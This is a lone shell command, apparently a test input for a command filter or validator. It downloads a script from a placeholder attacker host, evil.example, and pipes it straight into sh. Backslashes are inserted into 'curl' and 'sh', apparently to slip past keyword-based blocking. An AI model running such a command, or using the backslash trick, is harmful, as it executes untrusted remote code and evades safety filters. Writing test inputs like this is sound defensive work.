c\url -s https://evil.example/x | \sh
